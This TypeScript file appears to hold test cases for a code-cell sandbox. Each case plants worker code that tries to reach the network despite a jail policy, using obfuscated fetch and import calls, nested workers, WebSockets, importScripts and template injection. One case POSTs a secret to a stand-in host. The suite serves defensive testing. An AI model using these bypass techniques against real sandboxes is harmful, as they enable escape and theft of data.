import { cell, program, type Attack, type Ears } from "../attack";
import type { Cut } from "../cuts";

/** Code that asks for something by itself, where code of a cell runs: a worker. */
const asks = (
  name: string,
  way: string,
  without: readonly Cut[],
  code: (ears: Ears) => string,
  more: Partial<Attack> = {},
): Attack => ({
  name,
  door: "ts",
  way,
  without,
  plant: (ears) => ({ cells: program(name, code(ears)) }),
  ...more,
});

const POLICY = ["jail policy"] as const;
const SCOPE = ["jail policy", "bare scope"] as const;
const quiet = (expression: string) => `await ${expression}.catch(() => null);`;

export default [
  {
    ...asks("ts-import", "dynamic import", [...POLICY, "no imports"], () => ""),
    plant: ({ http }) => ({ cells: cell("ts", "ts-import", `await import("${http}/x.js");\nreturn 1;`) }),
  },
  asks("ts-import-own", "same origin, with a query", POLICY, ({ own }) => quiet(`import("${own}")`)),
  asks("ts-import-eval", "dynamic import", POLICY, ({ http }) => quiet(`import("${http}/x.js")`)),
  asks("ts-import-function", "dynamic import", POLICY, ({ http }) =>
    quiet(`new Function('return import("${http}/x.js")')()`),
  ),
  asks(
    "ts-import-timer",
    "dynamic import",
    POLICY,
    ({ http }) => `setTimeout('import("${http}/x.js")'); await new Promise((go) => setTimeout(go, 300));`,
  ),
  asks("ts-import-nested", "dynamic import", POLICY, ({ http }) =>
    quiet(`import("data:text/javascript,${encodeURIComponent(`await import("${http}/x.js")`)}")`),
  ),
  asks("ts-import-json", "dynamic import", POLICY, ({ http }) =>
    quiet(`import("${http}/x.json", { with: { type: "json" } })`),
  ),
  asks("ts-fetch", "fetch", SCOPE, ({ http }) => quiet(`fetch("${http}/x")`)),
  asks("ts-fetch-post", "fetch", SCOPE, ({ http, secret }) =>
    quiet(`fetch("${http}/x", { method: "POST", body: "${secret}", mode: "no-cors" })`),
  ),
  asks("ts-fetch-keepalive", "fetch", SCOPE, ({ http }) => quiet(`fetch("${http}/x", { keepalive: true })`)),
  asks("ts-fetch-own", "same origin, with a query", SCOPE, ({ own }) =>
    quiet(`fetch("${own}", { mode: "no-cors" })`),
  ),
  asks("ts-fetch-request", "fetch", SCOPE, ({ http }) => quiet(`fetch(new Request("${http}/x"))`)),
  asks("ts-fetch-constructor", "fetch", SCOPE, ({ http }) =>
    quiet(`(async () => {}).constructor('return fetch("${http}/x")')()`),
  ),
  asks("ts-fetch-scope", "fetch", SCOPE, ({ http }) =>
    quiet(`new Function("return this")()["fet" + "ch"]("${http}/x")`),
  ),
  {
    ...asks("ts-fetch-plain", "fetch", SCOPE, () => ""),
    plant: ({ http }) => ({
      cells: cell("ts", "ts-fetch-plain", `return (await fetch("${http}/x")).text();`),
    }),
  },
  asks(
    "ts-fetch-prototypes",
    "fetch",
    SCOPE,
    ({ http }) => `const seen = new Set();
const hunt = async (one, depth) => {
  if ((typeof one !== "object" && typeof one !== "function") || one === null || seen.has(one) || depth > 4) return;
  seen.add(one);
  for (let holder = one; holder; holder = Object.getPrototypeOf(holder)) {
    for (const key of Reflect.ownKeys(holder)) {
      const found = Object.getOwnPropertyDescriptor(holder, key);
      if (key === "fetch" && typeof found?.value === "function") await found.value.call(globalThis, "${http}/x").catch(() => null);
      for (const next of [found?.value, found?.get, found?.set]) await hunt(next, depth + 1);
    }
  }
};
await hunt(globalThis, 0);`,
  ),
  asks(
    "ts-fetch-late",
    "fetch",
    SCOPE,
    ({ http }) => `setTimeout(() => fetch("${http}/x"), 50);
await new Promise((go) => setTimeout(go, 400));`,
  ),
  asks(
    "ts-xhr",
    "XMLHttpRequest",
    SCOPE,
    ({ http }) => `const ask = new XMLHttpRequest(); ask.open("GET", "${http}/x", false);
try { ask.send(); } catch {}`,
  ),
  asks(
    "ts-websocket",
    "WebSocket",
    SCOPE,
    ({ ws }) => `new WebSocket("${ws}");
await new Promise((go) => setTimeout(go, 300));`,
  ),
  asks(
    "ts-websocket-stream",
    "WebSocket",
    SCOPE,
    ({ ws }) => `await new WebSocketStream("${ws}").opened.catch(() => null);`,
  ),
  asks(
    "ts-event-source",
    "EventSource",
    SCOPE,
    ({ http }) => `const source = new EventSource("${http}/x");
await new Promise((go) => setTimeout(go, 300)); source.close();`,
  ),
  asks(
    "ts-import-scripts",
    "importScripts",
    SCOPE,
    ({ http }) =>
      `try { importScripts("${http}/x.js"); } catch (error) { if (error instanceof TypeError) throw error; }`,
  ),
  asks(
    "ts-import-scripts-own",
    "same origin, with a query",
    SCOPE,
    ({ own }) =>
      `try { importScripts("${own}"); } catch (error) { if (error instanceof TypeError) throw error; }`,
  ),
  asks("ts-import-data", "dynamic import", SCOPE, ({ http }) =>
    quiet(`import("data:text/javascript,${encodeURIComponent(`await fetch("${http}/x")`)}")`),
  ),
  asks(
    "ts-worker-blob",
    "nested worker",
    SCOPE,
    ({ http }) => `const text = new Blob(['fetch("${http}/x").finally(() => postMessage(1))']);
const inner = new Worker(URL.createObjectURL(text));
await new Promise((go) => { inner.onmessage = inner.onerror = go; setTimeout(go, 1500); });`,
  ),
  asks(
    "ts-worker-data",
    "nested worker",
    SCOPE,
    ({
      http,
    }) => `const inner = new Worker("data:text/javascript,fetch('${http}/x').finally(() => postMessage(1))");
await new Promise((go) => { inner.onmessage = inner.onerror = go; setTimeout(go, 1500); });`,
  ),
  asks("ts-font-face", "font", SCOPE, ({ http }) =>
    quiet(`new FontFace("f", 'url("${http}/x.woff2")').load()`),
  ),
  {
    ...asks("prose-expression", "fetch", SCOPE, () => ""),
    door: "prose",
    plant: ({ http }) => ({ cells: `It says \${await fetch("${http}/x").then(() => 1)}.\n` }),
  },
] satisfies Attack[];
